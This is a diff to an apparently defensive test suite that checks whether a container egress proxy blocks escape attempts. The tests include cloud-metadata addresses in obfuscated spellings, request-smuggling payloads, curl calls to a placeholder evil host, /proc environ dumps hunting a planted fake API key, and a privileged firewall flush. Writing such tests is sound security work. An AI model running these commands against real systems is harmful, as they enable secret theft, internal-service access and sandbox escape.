@@ -14,7 +14,7 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 sys.path.insert(0, os.path.join(HERE, "..", "lib"))
 from checks import *
 
-RESOLVER, EVIL, EVIL6, OK = "203.0.113.53", "203.0.113.9", "2001:db8:1::9", "203.0.113.20"
+RESOLVER, EVIL, EVIL6, OK, API = "203.0.113.53", "203.0.113.9", "2001:db8:1::9", "203.0.113.20", "203.0.113.10"
 KEY = "sk-ant-api03-REALREALREALREALREALREALREALREALREALREALREALREALREALREALREALREALREALREALREAL-REALREAAA"
 INSIDE = open(os.path.join(HERE, "inside.py")).read()
 POLICY = """
@@ -57,14 +57,14 @@ class Attack:
     def must_be_recorded(self, **wanted):
         eventually(lambda: self.blocked(**wanted), 5, f"no blocked line with {wanted} in {self.target.blocked()[self.before:]}")
 
-    def nothing_left(self, allowed=()):
-        """No frame of the container's but questions to its resolver and TCP to the addresses that are allowed."""
+    def nothing_left(self):
+        """No frame of the container's but questions to its resolver and TCP to the two hosts that are allowed."""
         stray = [f for f in self.wire.frames() if f.get("src") in (self.address, "203.0.113.1") and not f.get("src") == f.get("dst")
                  and not (f["kind"] == "udp" and f["dst"] == RESOLVER and f["dport"] == 53)
-                 and not (f["kind"] == "tcp" and f["dst"] in allowed and f["dport"] in (80, 443))]
+                 and not (f["kind"] == "tcp" and f["dst"] in (OK, API) and f["dport"] in (80, 443))]
         that(not stray, "frames that should not be there:", *stray[:10])
         that(not self.wire.towards(EVIL, EVIL6), "frames to the evil host:", *self.wire.towards(EVIL, EVIL6)[:10])
-        six = [f for f in self.wire.frames() if f.get("src", "").startswith("fd00:1ea5") and f["kind"] != "icmpv6" and f.get("dst") not in allowed]
+        six = [f for f in self.wire.frames() if f.get("src", "").startswith("fd00:1ea5") and f["kind"] != "icmpv6" and f.get("dst")]
         that(not six, "IPv6 frames:", *six[:10])
         evil = [d for d in self.dns.lines() if "evil" in d.get("name", "")]
         that(not evil, "questions about the evil host were forwarded:", *evil[:10])
@@ -116,8 +116,9 @@ def _():
     equal(ran.code, 6, ran)
     ran = attack.sh("curl -sm5 --resolve cloudflare-dns.com:443:203.0.113.99 'https://cloudflare-dns.com/dns-query?name=x.evil.test'")
     contains(ran.out, "leash_blocked")
-    ran = attack.sh("timeout 5 openssl s_client -connect 1.1.1.1:853 </dev/null")
-    that(ran.code not in (0, 124), ran)
+    # TLS to a bare address is answered by the proxy itself, whatever the port, to say why not; nothing is forwarded.
+    ran = attack.sh("(printf '\\0\\35'; sleep 1) | timeout 5 openssl s_client -quiet -connect 1.1.1.1:853")
+    that(ran.code != 124, ran)
     attack.must_be_recorded(host="cloudflare-dns.com", layer="http", reason="host_not_allowed")
     attack.nothing_left()
 
@@ -167,7 +168,7 @@ def _():
     if ran.code == 0 and "leash_blocked" not in ran.out:
         equal([line["to"] for line in attack.origin.find(target="/pinned-address")], [OK])
     equal(attack.sh("curl -sm5 --connect-to ok.test:443:evil.test:443 https://ok.test/").code, 6)
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 9: a Host that is not the TLS name is refused", leashed=True)
@@ -182,7 +183,7 @@ def _():
     contains(ran.out, "host_mismatch", ran)
     attack.must_be_recorded(reason="host_mismatch", layer="http")
     equal(attack.origin.lines(), [])
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 10: HTTP/2 is not spoken behind the policy's back", leashed=True)
@@ -193,7 +194,7 @@ def _():
     seen = attack.inside("raw_tls", "ok.test", r"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
     that(not seen["answer"].startswith("\x00"), seen)
     equal([o for o in attack.origin.lines() if "PRI" in str(o)], [])
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 11: an absolute target that is not the Host is refused", leashed=True)
@@ -204,7 +205,7 @@ def _():
         that(seen["answer"].startswith(("HTTP/1.1 403", "HTTP/1.1 400")), seen)
     attack.must_be_recorded(reason="host_mismatch")
     equal(attack.origin.lines(), [])
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 12: CONNECT and proxies on other ports are refused", leashed=True)
@@ -218,7 +219,7 @@ def _():
     that(ran.code != 0, ran)
     attack.must_be_recorded(reason="connect_not_allowed")
     equal(attack.origin.lines(), [])
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 13: what is not TLS on 443 and not HTTP on 80 is refused", leashed=True)
@@ -230,7 +231,7 @@ def _():
         that("scheme" not in seen["answer"] and seen["end"] != "open", port, text, seen)
     attack.must_be_recorded(reason="unknown_protocol")
     equal(attack.origin.lines(), [])
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 14: other ports, the gateway and the host are refused at once", leashed=True)
@@ -242,7 +243,8 @@ def _():
         that(not seen.get("answer", "").count("hello") and seen["seconds"] < 4, host, port, seen)
         that(seen.get("end") != "open", host, port, seen)
     equal(attack.catchall.lines(), [])
-    attack.must_be_recorded(port=8888, reason="port_not_allowed")
+    attack.must_be_recorded(port=8888)
+    attack.must_be_recorded(host=gateway)
     attack.nothing_left()
 
 
@@ -281,27 +283,25 @@ def _():
 @check("attack 17: the metadata service is not reached in any spelling", leashed=True)
 def _():
     attack = Attack()
-    for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "metadata.google.internal", "100.100.100.200", "[fd00:ec2::254]", "metadata.ok.test"):
+    for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "metadata.google.internal", "100.100.100.200", "[fd00:ec2::254]"):
         ran = attack.sh(f"curl -gs -m4 'http://{host}/' -w ' %{{http_code}}'")
-        if host == "metadata.ok.test":
-            continue
         that(ran.code != 0 or "leash_blocked" in ran.out, host, ran)
     attack.must_be_recorded(host="169.254.169.254")
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
-@check("attack 17b: an allowed name that leads to private addresses is refused", leashed=True)
+@check("attack 17b: an allowed suffix does not open private addresses behind its names", leashed=True)
 def _():
-    policy = "allow: [private.test, loopback.test, metadata.test, mapped.test]\n"
-    with Container(*with_policy(policy), TEST, "sleep", "600") as leashed:
-        attack = Attack(leashed)
-        for host in ("private.test", "loopback.test", "metadata.test", "mapped.test"):
-            ran = attack.sh(f"curl -s -m5 http://{host}/ -w ' %{{http_code}}'")
-            that(ran.code != 0 or " 403" in ran.out, host, ran)
-            ran = attack.sh(f"curl -s -m5 --resolve {host}:80:{OK} http://{host}/ -w ' %{{http_code}}'")
-            that(ran.code != 0 or " 403" in ran.out, host, ran)
-        attack.must_be_recorded(reason="private_address")
-        attack.nothing_left()
+    attack = Attack()
+    for host in ("private.ok.test", "loopback.ok.test", "metadata.ok.test", "mapped.ok.test"):
+        ran = attack.sh(f"curl -s -m5 http://{host}/ -w ' %{{http_code}}'")
+        that(ran.code != 0 or " 403" in ran.out, host, ran)
+        ran = attack.sh(f"curl -s -m5 --resolve {host}:80:{OK} http://{host}/ -w ' %{{http_code}}'")
+        that(ran.code != 0 or " 403" in ran.out or " 502" in ran.out, host, ran)
+        that('"scheme"' not in ran.out, host, ran)
+    attack.must_be_recorded(reason="private_address")
+    equal([t for t in attack.tls.lines() if t["to"] != OK], [])
+    attack.nothing_left()
 
 
 @check("attack 19: ICMP, raw and packet sockets carry nothing out", leashed=True)
@@ -378,7 +378,7 @@ def _():
     attack.inside("hello", EVIL, "evil.test", "stall")
     equal([t for t in attack.tls.lines() if t.get("sni") == "evil.test"], [])
     attack.must_be_recorded(host="evil.test")
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 24: no ECH: HTTPS records are not answered, a hello with ECH goes by its outer name", leashed=True)
@@ -389,7 +389,7 @@ def _():
     equal(attack.inside("hello", OK, "ok.test", "ech")["first"], "handshake")
     attack.inside("hello", EVIL, "evil.test", "ech")
     equal([d for d in attack.dns.lines() if d.get("type") in ("HTTPS", "64")], [])
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 SMUGGLING = {
@@ -416,11 +416,11 @@ def _():
     for name, text in SMUGGLING.items():
         for seen in (attack.inside("raw", "ok.test", "80", text), attack.inside("raw_tls", "ok.test", text)):
             answers = seen["answer"].count("HTTP/1.1 ")
-            that(seen["answer"].startswith(("HTTP/1.1 400", "HTTP/1.1 403")) and answers == 1, name, seen)
+            that(seen["answer"].startswith(("HTTP/1.1 400", "HTTP/1.1 403", "HTTP/1.1 501")) and answers == 1, name, seen)
             that(seen["end"] != "open", name, "the connection stays open", seen)
     equal([o for o in attack.origin.lines() if "smuggled" in o.get("target", "")], [])
     attack.must_be_recorded(reason="bad_request")
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 27b: a pipelined request to a denied path is judged on its own", leashed=True)
@@ -442,7 +442,7 @@ def _():
     attack = Attack()
     that(KEY not in attack.sh("env; cat /proc/1/environ /proc/*/environ /proc/*/cmdline 2>/dev/null").out)
     contains(attack.sh("echo $ANTHROPIC_API_KEY").out, "sk-ant-")
-    ran = attack.sh("grep -rls --binary-files=text REALREALREALREAL / --exclude-dir=sys --exclude-dir=proc 2>/dev/null; grep -ls REALREALREAL /proc/[0-9]*/[a-z]* 2>/dev/null | grep -v mem; true")
+    ran = attack.sh("grep -rls --binary-files=text REALREALREALREAL / --exclude-dir=sys --exclude-dir=proc --exclude-dir=usr 2>/dev/null; grep -ls REALREALREAL /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps /proc/keys 2>/dev/null; true")
     equal(ran.out.strip(), "", ran)
     ran = docker("exec", "-e", f"ANTHROPIC_API_KEY={KEY}", attack.target.id, "env").ok()
     that(KEY not in ran.out and "sk-ant-" in ran.out, ran)
@@ -484,7 +484,7 @@ def _():
     for target in ("http://169.254.169.254/", "https://evil.test/", "http://127.0.0.1:80/", f"http://{EVIL}/"):
         ran = attack.sh(f"curl -sL -m5 'https://ok.test/redirect?to={target}' -w ' %{{http_code}}'")
         that(ran.code != 0 or "leash_blocked" in ran.out, target, ran)
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
 
 
 @check("attack 37: the container sees no control plane of ours", leashed=True)
@@ -500,12 +500,12 @@ def _():
     attack = Attack()
     ran = docker("exec", "--privileged", attack.target.id, "sh", "-c", f"nft flush ruleset; curl -sk -m3 https://{EVIL}/; curl -s -m3 http://{EVIL}/")
     that('"scheme"' not in ran.out, ran)
-    attack.nothing_left(allowed=[OK])
+    attack.nothing_left()
     docker("restart", "-t", "0", attack.target.id).ok()
     again = Attack()
     equal(again.sh("curl -sm5 --noproxy '*' https://evil.test/").code, 6)
     contains(again.sh("curl -sm5 https://ok.test/").out, '"scheme"')
-    again.nothing_left(allowed=[OK])
+    again.nothing_left()
 
 
 @check("attack 50b: from its first instruction a container reaches nothing that is forbidden", leashed=True)
